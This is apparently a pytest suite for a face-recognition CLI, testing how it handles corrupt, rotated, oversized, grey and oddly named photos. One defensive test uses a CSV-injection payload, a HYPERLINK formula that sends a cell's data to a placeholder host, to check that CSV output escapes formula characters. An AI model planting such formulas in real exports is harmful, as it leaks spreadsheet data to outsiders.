"""Bad and unusual photos through build-db, recognize and detect: each is read correctly, or skipped and named at
the end while every good photo is processed; a run with nothing to work on is a one-line error that writes
nothing."""

from __future__ import annotations

import json
import os
import time
import weakref

import cv2
import numpy as np
import pytest

from .helpers import (
    ALPHA_PNG,
    BIDEN,
    OBAMA,
    OBAMA2,
    clean_error,
    copy,
    iou,
    no_face_photo,
    records,
    skipped,
    with_exif_orientation,
)

UNREADABLE = "warning: unreadable photos, skipped (1):"


def the_face(record: dict) -> dict:
    assert len(record["faces"]) == 1, record
    return record["faces"][0]


@pytest.mark.parametrize("kind", ["corrupt-jpeg", "zero-bytes"])
def test_unreadable_photo_is_skipped_and_reported(cli, shared_data, scrfd, random_recognizer, tmp_path, kind):
    """Corrupt JPEG (a real photo cut off after a third of its bytes, as by a failed copy) or a 0-byte file among
    good photos: build-db, recognize and detect exit 0, process every good photo and list the bad one at the end,
    by path, with what is wrong (truncated or corrupt / empty); build-db's --report lists it too."""
    people = tmp_path / "people"
    copy(shared_data / OBAMA, people / "obama/obama.jpg")
    copy(shared_data / BIDEN, people / "biden/biden2.jpg")
    data = (shared_data / OBAMA2).read_bytes()
    cut = len(data) // 3
    content, why = {
        "corrupt-jpeg": (data[:cut], f"cannot decode image ({cut} bytes): truncated or corrupt"),
        "zero-bytes": (b"", "cannot decode image (0 bytes): empty"),
    }[kind]
    bad = people / "obama/bad.jpg"
    bad.write_bytes(content)

    db, report = tmp_path / "g.h5", tmp_path / "report.json"
    built = cli("build-db", people, scrfd, random_recognizer, db, "--report", report)
    assert why in skipped(built, UNREADABLE, bad)
    assert "2 faces of 2 people (added 2 faces of 2 people from 3 photos; skipped 1)" in built.output
    assert cli("db", "list", db).output == "biden\t1\nobama\t1\n"
    facts = json.loads(report.read_text())
    assert facts["faces_per_identity"] == {"biden": 1, "obama": 1} and len(facts["unreadable"]) == 1
    assert facts["unreadable"][0].startswith(f"{bad}: {why}")

    recognized = cli("recognize", people, db, scrfd, random_recognizer)
    assert why in skipped(recognized, UNREADABLE, bad)
    found = records(recognized.stdout)
    assert sorted(found) == ["biden2.jpg", "obama.jpg"]
    assert [the_face(found[n])["identity"] for n in ("biden2.jpg", "obama.jpg")] == ["biden", "obama"]
    assert "2 photos, 2 faces: 2 recognized" in recognized.output

    detected = cli("detect", people, "--model", scrfd, "--max-size", 640)
    assert why in skipped(detected, "warning: skipped 1 unreadable images:", bad)
    assert sorted(records(detected.stdout)) == ["biden2.jpg", "obama.jpg"]


def test_png_with_alpha(cli, shared_data, scrfd, random_recognizer, knn_gallery, tmp_path):
    """A 32-bit PNG with alpha (test_images/32bit.png, which is obama2.jpg with an alpha channel): read as its
    colour pixels, so detect finds the face of the JPEG of the same photo, build-db enrols it and recognize names
    it."""
    png, jpeg = shared_data / ALPHA_PNG, shared_data / OBAMA2
    assert cv2.imread(str(png), cv2.IMREAD_UNCHANGED).shape == (1200, 626, 4)
    detected = records(cli("detect", png, jpeg, "--model", scrfd, "--max-size", 640).stdout)
    assert iou(the_face(detected["32bit.png"])["box"], the_face(detected["obama2.jpg"])["box"]) > 0.9

    people = tmp_path / "people"
    copy(png, people / "obama/32bit.png")
    copy(shared_data / BIDEN, people / "biden/biden2.jpg")
    db = tmp_path / "g.h5"
    built = cli("build-db", people, scrfd, random_recognizer, db)
    assert built.exit_code == 0 and "2 faces of 2 people" in built.output and "skipped 0" in built.output
    for photo, gallery in [(jpeg, db), (png, knn_gallery)]:  # the PNG against the gallery made from the JPEG
        result = cli("recognize", photo, gallery, scrfd, random_recognizer)
        face = the_face(json.loads(result.stdout))
        assert result.exit_code == 0 and face["identity"] == "obama" and face["similarity"] > 0.9, face


def test_16_bit_png(cli, shared_data, scrfd, random_recognizer, knn_gallery, tmp_path):
    """A 16-bit-per-channel PNG (biden2.jpg's pixels x 257, written by OpenCV as uint16): scaled to 8 bits on
    reading, which gives back exactly the 8-bit pixels, so detect finds the same box, and build-db / recognize
    see the same face (similarity 1 with the 8-bit photo)."""
    photo = cv2.imread(str(shared_data / BIDEN))
    png = tmp_path / "people/biden/biden16.png"
    png.parent.mkdir(parents=True)
    assert cv2.imwrite(str(png), photo.astype(np.uint16) * 257)
    assert cv2.imread(str(png), cv2.IMREAD_UNCHANGED).dtype == np.uint16
    detected = records(cli("detect", png, shared_data / BIDEN, "--model", scrfd, "--max-size", 640).stdout)
    assert the_face(detected["biden16.png"])["box"] == the_face(detected["biden2.jpg"])["box"]

    db = tmp_path / "g.h5"
    copy(shared_data / OBAMA, tmp_path / "people/obama/obama.jpg")
    built = cli("build-db", tmp_path / "people", scrfd, random_recognizer, db)
    assert built.exit_code == 0 and "2 faces of 2 people" in built.output and "skipped 0" in built.output
    face = the_face(json.loads(cli("recognize", shared_data / BIDEN, db, scrfd, random_recognizer).stdout))
    assert face["identity"] == "biden" and face["similarity"] > 0.9999
    face = the_face(json.loads(cli("recognize", png, knn_gallery, scrfd, random_recognizer).stdout))
    assert face["identity"] == "biden" and face["similarity"] > 0.9999


def test_grey_photos(cli, shared_data, scrfd, random_recognizer, tmp_path):
    """Grey photos: raw ORL .pgm files (8-bit grey, 92 x 112) as identity folders, and a grey PNG of a colour
    photo: read as 3-channel BGR, so build-db enrols every one (nothing skipped), recognize names an enrolled photo
    and detect finds the face of the colour original."""
    people = tmp_path / "people"
    for person in ("s1", "s2"):
        for n in (1, 2, 3):
            copy(shared_data / f"faces/orl/{person}/{n}.pgm", people / person / f"{n}.pgm")
    grey = people / "biden/biden_grey.png"
    grey.parent.mkdir()
    assert cv2.imwrite(str(grey), cv2.cvtColor(cv2.imread(str(shared_data / BIDEN)), cv2.COLOR_BGR2GRAY))
    assert cv2.imread(str(grey), cv2.IMREAD_UNCHANGED).ndim == 2
    db = tmp_path / "g.h5"
    built = cli("build-db", people, scrfd, random_recognizer, db)
    assert built.exit_code == 0 and "7 faces of 3 people" in built.output and "skipped 0" in built.output, built.output
    assert cli("db", "list", db).output == "biden\t1\ns1\t3\ns2\t3\n"
    result = cli("recognize", people / "s2/2.pgm", db, scrfd, random_recognizer)
    face = the_face(json.loads(result.stdout))
    assert face["identity"] == "s2" and face["similarity"] > 0.9999
    detected = records(cli("detect", grey, shared_data / BIDEN, "--model", scrfd, "--max-size", 640).stdout)
    assert iou(the_face(detected["biden_grey.png"])["box"], the_face(detected["biden2.jpg"])["box"]) > 0.9


@pytest.fixture(scope="module")
def huge_photos(shared_data, tmp_path_factory):
    """Three copies of an 8000 x 8000 JPEG (64 Mpixel): obama.jpg scaled x7 in the top-left corner of a grey
    canvas, so its face is where the upright photo's is, x7."""
    photo = cv2.imread(str(shared_data / OBAMA))
    canvas = np.full((8000, 8000, 3), 127, np.uint8)
    scaled = cv2.resize(photo, None, fx=7, fy=7, interpolation=cv2.INTER_LINEAR)
    canvas[: scaled.shape[0], : scaled.shape[1]] = scaled
    folder = tmp_path_factory.mktemp("huge") / "people" / "obama"
    folder.mkdir(parents=True)
    assert cv2.imwrite(str(folder / "huge1.jpg"), canvas, [cv2.IMWRITE_JPEG_QUALITY, 80])
    for n in (2, 3):
        copy(folder / "huge1.jpg", folder / f"huge{n}.jpg")
    return folder.parent


@pytest.mark.slow
def test_8000_pixel_photo(cli, shared_data, scrfd, random_recognizer, huge_photos, tmp_path, monkeypatch):
    """8000 x 8000 photos: detect, build-db and recognize find the face where it is (the upright photo's box x 7),
    within a bounded time; build-db and recognize hold at most two decoded photos at once (192 MB each) whatever
    --batch is, because a batch keeps the aligned crops, not the photos."""
    from facekit.gallery import build, recognize

    upright = records(cli("detect", shared_data / OBAMA, "--model", scrfd, "--max-size", 640).stdout)["obama.jpg"]
    expected = [7 * v for v in the_face(upright)["box"]]

    alive: set[int] = set()
    most = [0]

    def counted(read_each):
        def read(*args, **kwargs):
            for i, path, image in read_each(*args, **kwargs):
                alive.add(id(image))
                most[0] = max(most[0], len(alive))
                weakref.finalize(image, alive.discard, id(image))
                yield i, path, image

        return read

    monkeypatch.setattr(build, "read_each", counted(build.read_each))
    monkeypatch.setattr(recognize, "read_each", counted(recognize.read_each))
    start = time.perf_counter()
    db = tmp_path / "g.h5"
    built = cli("build-db", huge_photos, scrfd, random_recognizer, db, "--batch", 16)
    assert built.exit_code == 0 and "3 faces of 1 people" in built.output, built.output
    result = cli("recognize", huge_photos, db, scrfd, random_recognizer, "--batch", 16)
    found = records(result.stdout)
    assert sorted(found) == ["huge1.jpg", "huge2.jpg", "huge3.jpg"]
    for record in found.values():
        assert (record["width"], record["height"]) == (8000, 8000)
        face = the_face(record)
        assert face["identity"] == "obama" and iou(face["box"], expected) > 0.9, face
    detected = cli("detect", huge_photos / "obama/huge1.jpg", "--model", scrfd)
    assert iou(the_face(json.loads(detected.stdout))["box"], expected) > 0.9
    seconds = time.perf_counter() - start
    print(f"\n8000x8000: build-db + recognize of 3 photos and detect of 1 in {seconds:.1f} s; at most {most[0]} "
          "decoded photos held at once")  # fmt: skip
    assert most[0] <= 2
    assert seconds < 120


ROTATIONS = {3: cv2.ROTATE_180, 6: cv2.ROTATE_90_COUNTERCLOCKWISE, 8: cv2.ROTATE_90_CLOCKWISE}


@pytest.mark.parametrize("orientation", sorted(ROTATIONS))
def test_exif_rotated_photo(cli, shared_data, scrfd, random_recognizer, knn_gallery, tmp_path, orientation):
    """A camera photo stored sideways or upside down with EXIF Orientation 3 / 6 / 8 (obama.jpg turned so that a
    reader applying the tag turns it back): read upright, so detect returns the upright photo's size, box and
    landmarks, and recognize names the face as in the upright photo; the same pixels without the tag are read as
    stored (the control)."""
    photo = cv2.imread(str(shared_data / OBAMA))
    jpeg = cv2.imencode(".jpg", cv2.rotate(photo, ROTATIONS[orientation]), [cv2.IMWRITE_JPEG_QUALITY, 95])[1]
    (tmp_path / "tagged.jpg").write_bytes(with_exif_orientation(jpeg.tobytes(), orientation))
    (tmp_path / "untagged.jpg").write_bytes(jpeg.tobytes())
    copy(shared_data / OBAMA, tmp_path / "upright.jpg")

    found = records(cli("detect", tmp_path, "--model", scrfd, "--max-size", 640).stdout)
    upright, tagged = found["upright.jpg"], found["tagged.jpg"]
    assert (tagged["width"], tagged["height"]) == (upright["width"], upright["height"]) == (910, 1137)
    a, b = the_face(tagged), the_face(upright)
    assert iou(a["box"], b["box"]) > 0.95
    assert np.abs(np.subtract(a["landmarks"], b["landmarks"])).max() < 5  # left eye is the left eye, etc.
    control = found["untagged.jpg"]
    assert (control["width"], control["height"]) == ((1137, 910) if orientation in (6, 8) else (910, 1137))
    assert all(iou(face["box"], b["box"]) < 0.5 for face in control["faces"])

    result = cli("recognize", tmp_path / "tagged.jpg", knn_gallery, scrfd, random_recognizer)
    face = the_face(json.loads(result.stdout))
    assert face["identity"] == "obama" and face["similarity"] > 0.95, face


def test_non_ascii_paths(cli, shared_data, scrfd, random_recognizer, tmp_path):
    """Non-ASCII names everywhere: an identity folder Zoë_Ñandú holding 照片.jpg, a gallery 图库/画廊.h5, outputs
    结果.jsonl / 结果.csv and annotations in 标注/: the identity round-trips through the gallery (db list) and the
    JSON (json.loads gives back the same path and name) and CSV (UTF-8) outputs; detect reads the photo too."""
    people = tmp_path / "people"
    photo = copy(shared_data / OBAMA, people / "Zoë_Ñandú" / "照片.jpg")
    copy(shared_data / BIDEN, people / "biden/biden2.jpg")
    db = tmp_path / "图库" / "画廊.h5"
    built = cli("build-db", people, scrfd, random_recognizer, db)
    assert built.exit_code == 0 and "2 faces of 2 people" in built.output, built.output
    listed = cli("db", "list", db, "--sources").output
    assert listed == f"biden\t1\n\t{people / 'biden/biden2.jpg'}\nZoë_Ñandú\t1\n\t{photo}\n"

    out, annotated = tmp_path / "结果.jsonl", tmp_path / "标注"
    result = cli("recognize", photo, db, scrfd, random_recognizer, "--out", out, "--save-annotated", annotated)
    assert result.exit_code == 0 and "[Zoë_Ñandú 1]" in result.output, result.output
    (record,) = map(json.loads, out.read_text(encoding="utf-8").splitlines())
    assert record["image"] == str(photo) and the_face(record)["identity"] == "Zoë_Ñandú"
    assert cv2.imdecode(np.fromfile(annotated / "照片.jpg", np.uint8), cv2.IMREAD_COLOR).shape == (1137, 910, 3)
    csv_out = tmp_path / "结果.csv"
    assert cli("recognize", photo, db, scrfd, random_recognizer, "--format", "csv", "--out", csv_out).exit_code == 0
    assert csv_out.read_text(encoding="utf-8").splitlines()[1].startswith(f"{photo},0,")
    assert ",Zoë_Ñandú," in csv_out.read_text(encoding="utf-8")
    detected = cli("detect", people / "Zoë_Ñandú", "--model", scrfd, "--max-size", 640)
    assert detected.exit_code == 0 and json.loads(detected.stdout)["image"] == str(photo)


def test_file_name_that_is_not_utf8(cli, shared_data, scrfd, random_recognizer, knn_gallery, tmp_path):
    """A person folder and photo whose names are Latin-1 bytes, not UTF-8 (b'Zo\\xeb/ph\\xe9.jpg', as copied from
    an old camera or a Windows share): build-db skips it with a warning saying why (the gallery stores UTF-8) and
    enrols the rest; recognize reads it and writes its name back byte for byte in CSV and JSON outputs."""
    people = tmp_path / "people"
    copy(shared_data / BIDEN, people / "biden/biden2.jpg")
    folder = os.path.join(os.fsencode(people), b"Zo\xeb")
    try:
        os.mkdir(folder)
    except OSError:  # file systems that insist on UTF-8 names (macOS APFS) cannot hold this case; CI's can
        message = "this file system refuses names that are not UTF-8"
        if os.environ.get("CI") == "true":
            pytest.fail(message)
        pytest.skip(message)
    name = os.path.join(folder, b"ph\xe9.jpg")
    with open(name, "wb") as f:
        f.write((shared_data / OBAMA).read_bytes())
    photo = os.fsdecode(name)

    db = tmp_path / "g.h5"
    built = cli("build-db", people, scrfd, random_recognizer, db)
    line = skipped(built, UNREADABLE, f"{people}/Zo\\udceb/ph\\udce9.jpg")  # stderr's backslashreplace
    assert line.endswith(": file or folder name is not valid UTF-8 (the gallery stores names as UTF-8); rename it")
    assert "1 faces of 1 people" in built.output
    assert cli("db", "list", db).output == "biden\t1\n"

    out = tmp_path / "out.csv"
    result = cli("recognize", people, knn_gallery, scrfd, random_recognizer, "--format", "csv", "--out", out)
    assert result.exit_code == 0 and "2 photos, 2 faces" in result.output, result.output
    assert b"\n" + name + b",0," in out.read_bytes()
    result = cli("recognize", photo, knn_gallery, scrfd, random_recognizer, "--out", tmp_path / "out.jsonl")
    assert json.loads((tmp_path / "out.jsonl").read_text())["image"] == photo


def test_photo_without_a_face(cli, shared_data, scrfd, random_recognizer, knn_gallery, tmp_path):
    """A real photo with no face (obama.jpg below the chin): build-db skips it, lists it under 'photos without a
    face' and enrols the others (exit 0); recognize and detect write its record with no faces and count it; a
    person whose only photo shows no face is not in the gallery."""
    people = tmp_path / "people"
    copy(shared_data / OBAMA, people / "obama/obama.jpg")
    suit = no_face_photo(shared_data, people / "obama/suit.jpg")
    only = no_face_photo(shared_data, people / "nobody/suit.jpg")
    db, report = tmp_path / "g.h5", tmp_path / "report.json"
    built = cli("build-db", people, scrfd, random_recognizer, db, "--report", report)
    assert built.exit_code == 0 and "(added 1 faces of 1 people from 3 photos; skipped 2)" in built.output
    for path in (suit, only):
        skipped(built, "warning: photos without a face, skipped (2):", path)
    assert json.loads(report.read_text())["no_face"] == [str(only), str(suit)]
    assert cli("db", "list", db).output == "obama\t1\n"

    result = cli("recognize", people, knn_gallery, scrfd, random_recognizer)
    assert result.exit_code == 0, result.output
    assert "3 photos, 1 faces: 1 recognized, 0 unknown, 2 photos without a face" in result.output
    faces = {r["image"]: len(r["faces"]) for r in map(json.loads, result.stdout.splitlines())}
    assert faces == {str(only): 0, str(people / "obama/obama.jpg"): 1, str(suit): 0}
    detected = cli("detect", suit, "--model", scrfd, "--max-size", 640)
    assert detected.exit_code == 0 and json.loads(detected.stdout)["faces"] == []


def test_empty_folder(cli, shared_data, scrfd, random_recognizer, knn_gallery, tmp_path):
    """An empty folder (and one whose person folders hold no photo): build-db, recognize and detect end with a
    one-line error naming the folder, exit 1, and write nothing (no gallery, no --out file). A folder whose photos
    are all unreadable is also an error for recognize."""
    empty = tmp_path / "empty"
    empty.mkdir()
    (tmp_path / "hollow/alice").mkdir(parents=True)
    (tmp_path / "hollow/bob").mkdir()
    for folder in (empty, tmp_path / "hollow"):
        db = tmp_path / "g.h5"
        result = cli("build-db", folder, scrfd, random_recognizer, db)
        clean_error(result, 1, f"{folder}: no identity folders with images (expected {folder}/<person>/<image>)")
        out = tmp_path / "out.jsonl"
        result = cli("recognize", folder, knn_gallery, scrfd, random_recognizer, "--out", out)
        clean_error(result, 1, f"{folder}: no photos to recognize")
        result = cli("detect", folder, "--model", scrfd, "--out", out)
        clean_error(result, 1, f"{folder}: no image files")
        assert not db.exists() and not out.exists() and not list(tmp_path.glob(".*.tmp"))

    broken = tmp_path / "broken"
    (broken / "x").mkdir(parents=True)
    (broken / "x/a.jpg").write_bytes(b"")
    (broken / "x/b.jpg").write_bytes(b"\xff\xd8\xff\xe0 not a jpeg")
    result = cli("recognize", broken, knn_gallery, scrfd, random_recognizer, "--out", out)
    clean_error(result, 1, f"{broken}: none of the 2 photos could be read")
    assert "warning: unreadable photos, skipped (2):" in result.output
    assert not out.exists() and not list(tmp_path.glob(".*.tmp"))  # no empty result file left behind


def test_csv_cells_that_look_like_formulas_stay_text(cli, shared_data, scrfd, random_recognizer, tmp_path):
    """An identity folder named =HYPERLINK(...) and a photo named -1+1.jpg: recognize --format csv writes both with a
    leading ' (OWASP's CSV-injection rule), so a spreadsheet shows them as text instead of running them; JSON lines
    keep the names as they are."""
    import csv

    name = '=HYPERLINK("x.example?"&A1,"click")'
    people = tmp_path / "people"
    copy(shared_data / OBAMA, people / name / "a.jpg")
    photo = copy(shared_data / OBAMA, tmp_path / "probe" / "-1+1.jpg")
    db = tmp_path / "g.h5"
    assert cli("build-db", people, scrfd, random_recognizer, db).exit_code == 0
    out = tmp_path / "out.csv"
    result = cli("recognize", photo.parent, db, scrfd, random_recognizer, "--format", "csv", "--out", out)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))
    assert rows[1][0] == str(photo)  # an absolute path starts with /, not a formula character
    assert "'" + name in [row[-2] for row in rows[1:]], rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in (row[0], row[-2]))
    jsonl = cli("recognize", photo, db, scrfd, random_recognizer)
    assert the_face(json.loads(jsonl.stdout))["identity"] == name


def test_csv_text_rule():
    from facekit.gallery.recognize import csv_text

    assert [csv_text(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "obama", "")] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "obama", ""
    ]  # fmt: skip
